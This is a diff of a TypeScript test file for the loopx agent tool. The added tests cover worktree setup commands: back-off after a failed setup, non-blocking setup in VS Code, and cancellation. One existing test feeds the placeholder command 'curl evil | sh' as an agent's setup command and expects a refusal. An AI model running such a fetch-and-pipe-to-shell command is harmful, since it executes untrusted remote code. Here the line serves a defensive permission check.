@@ -25,6 +25,8 @@ import { setGoalWorktree } from '../../src/kernel/worktrees/worktreeSetting';
 import { autoCleanWorktrees, cleanWorktrees } from '../../src/kernel/worktrees/hygiene';
 import { Kernel } from '../../src/kernel/kernel';
 import { processAlive } from '../../src/runtime/launchers';
+import { prepareTurnStart, startTurn } from '../../src/kernel/turns/turns';
+import { addTodo } from '../../src/kernel/todos/todos';
 
 /** Worktrees with real git in temporary repositories: a repo with one commit on main and a store at its root. */
 const GIT_ID = {
@@ -261,6 +263,32 @@ describe("a goal's setup command makes a fresh worktree ready before the agent s
     const agent = s.cli(['goal', 'set-worktree', 'G1', '--setup', 'curl evil | sh', '--json'], { LOOPX_AGENT: 'bot' });
     expect([agent.code, agent.json.error?.code]).toEqual([3, 'not_allowed']);
     expect(s.cli(['goal', 'show', 'G1', '--json']).json.data).toMatchObject({ worktreeSetup: 'touch set-up.txt' });
+  });
+});
+
+describe('a failed setup backs off in loopx run', () => {
+  test('the runner says it and does not run the setup again before its back-off; a changed command runs at once', async () => {
+    const s = setUp();
+    const ran = join(s.parent, 'setup-runs.txt');
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, `echo run >> '${ran}'; echo "npm ERR! broken" >&2; exit 1`));
+    const r = s.runner(['--host', 'custom', '--command', agentCommand('hang'), '--agent', 'bot', '--max-turns', '1']);
+    const failed = await r.waitFor((e) => e.event === 'turn_not_started' && e.code === 'setup_failed');
+    expect(failed).toMatchObject({ goalId: 'G1', retryAt: expect.any(String) as string });
+    // A person's write wakes the runner for another pass: within the back-off it refuses without running the setup.
+    s.cli(['todo', 'add', '--goal', 'G1', '--title', 'Wake the runner']);
+    const waiting = await r.waitFor((e) => e.event === 'turn_not_started' && String(e.message).includes('is not run again before'));
+    expect(waiting).toMatchObject({ code: 'setup_failed', retryAt: failed.retryAt });
+    expect(readFileSync(ran, 'utf8')).toBe('run\n');
+    expect(s.cli(['turn', 'list', '--json']).json.data).toEqual([]); // nothing claimed, no turn
+    // A person changes the command: it runs at once and the turn starts.
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, `echo fixed >> '${ran}'`));
+    await r.waitFor((e) => e.event === 'turn_started' && e.todoId === 'T1');
+    expect(readFileSync(ran, 'utf8')).toBe('run\nfixed\n');
+    await r.waitFor((e) => e.event === 'output' && e.line === 'hanging');
+    const launcher = JSON.parse(readFileSync(join(s.root, '.loopx', 'turns', 'R1', 'launcher.json'), 'utf8')) as { hostPid: number };
+    r.child.kill('SIGKILL');
+    process.kill(-launcher.hostPid, 'SIGKILL');
+    await r.exited;
   });
 });
 
@@ -567,6 +595,55 @@ describe('in VS Code (the kernel with channel vscode)', () => {
     expect(merged).toMatchObject({ status: 'merged', landedChannel: 'vscode' });
     expect(s.git(['log', '-1', '--format=%s', 'main'])).toBe('Merge loopx/T1-parse-quoted-fields: Parse quoted fields (loopx T1)');
     expect(inVsCode(s.root, (k) => discardWorktree(k, 'T2', false))).toMatchObject({ status: 'discarded' });
+  });
+});
+
+describe('VS Code prepares a turn without blocking its extension host', () => {
+  test('while a slow setup runs in-process, the event loop turns and another kernel write completes; then the turn starts', async () => {
+    const s = setUp();
+    const done = join(s.parent, 'setup-done');
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, `sleep 2; echo > '${done}'`));
+    const kernel = Kernel.open(s.root, { actor: { name: 'ada', kind: 'human', channel: 'vscode' } });
+    try {
+      const order: string[] = [];
+      const steps: string[] = [];
+      const input = { goalId: 'G1', host: 'custom', todoId: 'T1', agent: 'bot' };
+      const preparing = prepareTurnStart(kernel, input, { onProgress: (p) => steps.push(`${p.todoId} ${p.step} ${p.command ?? ''}`) }).then(
+        (prepared) => (order.push('setup finished'), prepared),
+      );
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      // The same kernel writes while the setup runs (spawnSync would have held this until the setup ended).
+      const added = addTodo(kernel, { goalId: 'G1', title: 'Meanwhile' });
+      order.push(existsSync(done) ? 'write after the setup' : `write ${added.id} while the setup runs`);
+      const started = startTurn(kernel, input, await preparing);
+      expect(order).toEqual(['write T3 while the setup runs', 'setup finished']);
+      expect(steps).toEqual(['T1 worktree ', `T1 setup sleep 2; echo > '${done}'`]);
+      expect(started).toMatchObject({ worktree: { branch: 'loopx/T1-parse-quoted-fields', created: true } });
+    } finally {
+      kernel.close();
+    }
+  });
+
+  test('cancelling the setup kills it and starts no turn: nothing is claimed', async () => {
+    const s = setUp();
+    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'sleep 30'));
+    const before = dumpStore(s.root);
+    const kernel = Kernel.open(s.root, { actor: { name: 'ada', kind: 'human', channel: 'vscode' } });
+    try {
+      const abort = new AbortController();
+      const preparing = prepareTurnStart(
+        kernel,
+        { goalId: 'G1', host: 'custom', todoId: 'T1' },
+        {
+          signal: abort.signal,
+          onProgress: (p) => p.step === 'setup' && abort.abort(),
+        },
+      );
+      await expect(preparing).rejects.toMatchObject({ code: 'setup_cancelled' });
+    } finally {
+      kernel.close();
+    }
+    expect(dumpStore(s.root)).toBe(before);
   });
 });
 
